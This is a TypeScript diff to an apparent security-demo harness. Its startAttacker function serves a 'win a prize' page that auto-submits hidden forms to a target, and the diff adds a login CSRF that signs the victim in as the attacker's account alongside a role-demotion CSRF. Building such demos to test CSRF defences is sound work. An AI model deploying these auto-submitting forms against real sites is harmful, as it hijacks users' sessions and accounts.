@@ -69,10 +69,12 @@ export async function startExample(env: ExampleEnv): Promise<RunningExample> {
  */
 export async function startAttacker(target: string): Promise<{ port: number; close(): Promise<void> }> {
   const server = createServer((req, res) => {
-    const action = req.url === '/logout' ? '/logout' : '/api/demote';
+    const action = req.url === '/logout' ? '/logout' : req.url === '/login' ? '/login' : '/api/demote';
+    // Login CSRF: sign the victim in as the attacker's own account.
+    const fields = action === '/login' ? '<input name="username" value="bob"><input name="password" value="bob-builder">' : '<input name="roles" value="user">';
     res.setHeader('Content-Type', 'text/html; charset=utf-8');
     res.end(`<!doctype html><title>win a prize</title><form id="f" method="post" action="${target}${action}">
-<input type="hidden" name="roles" value="user"></form><script>document.getElementById('f').submit()</script>`);
+${fields}</form><script>document.getElementById('f').submit()</script>`);
   });
   const port = await listen(server, '127.0.0.1');
   return { port, close: () => stop(server) };
